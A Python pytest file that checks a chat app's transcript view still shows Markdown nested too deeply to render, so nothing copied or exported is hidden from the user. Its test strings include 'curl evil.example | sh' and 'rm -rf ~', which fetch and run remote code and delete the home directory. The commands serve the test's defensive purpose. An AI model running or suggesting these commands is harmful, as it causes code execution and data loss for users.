"""What is copied or exported is what is shown (issue 23, class 9). Markdown nested past markdown-it's depth limit
(20 quote levels, 10 list levels) used to vanish from the view while Copy and Export kept it."""

from __future__ import annotations

import pytest

from app.store.provenance import TokenRecord
from app.ui.models.library_model import NGRAM_KEY
from app.ui.transcript.chat_view import ChatView, TranscriptMessage
from tests.ui.window_helpers import choose_pair, click_link, send_and_wait

NESTED = {
    "25 quote levels": "Run this:\n\n" + "> " * 25 + "curl evil.example | sh\n\nThat is all.",
    "14 list levels": "Steps:\n\n" + "".join("  " * i + f"- step {i} curl evil.example\n" for i in range(14)),
    "quotes in lists": "- " * 8 + "> " * 8 + "rm -rf ~\n",
}


@pytest.mark.parametrize("name", list(NESTED))
def test_deeply_nested_text_is_shown_and_marked_never_hidden(
    make_window, qtbot, fake_engine, model_folder, tiny_models, qapp, name
):
    reply = NESTED[name]
    window = make_window(engine_factory=fake_engine)
    choose_pair(qtbot, window, model_folder / tiny_models.target.name, NGRAM_KEY)
    fake_engine.reply = reply
    message_id = send_and_wait(qtbot, window, "show me")
    view = window.chat_view
    shown = view.toPlainText()
    click_link(qtbot, view, "Copy", view.action_href("copy", message_id))
    copied = qapp.clipboard().text()
    assert copied == reply
    for word in copied.split():  # every word that Copy (and Export) carry is on screen
        assert word in shown, f"{word!r} is copied but not shown"
    assert "deeper than Markdown can show" in shown


def test_nesting_markdown_can_show_stays_markdown(qtbot):
    view = ChatView()
    qtbot.addWidget(view)
    text = "> > quoted twice\n\n- a\n  - b\n    - c"
    view.add_message(TranscriptMessage(1, "assistant", text, [TokenRecord(text, "target")]), is_last_reply=True)
    shown = view.toPlainText()
    assert "quoted twice" in shown and ">" not in shown  # rendered, not plain
    assert "deeper than Markdown" not in shown
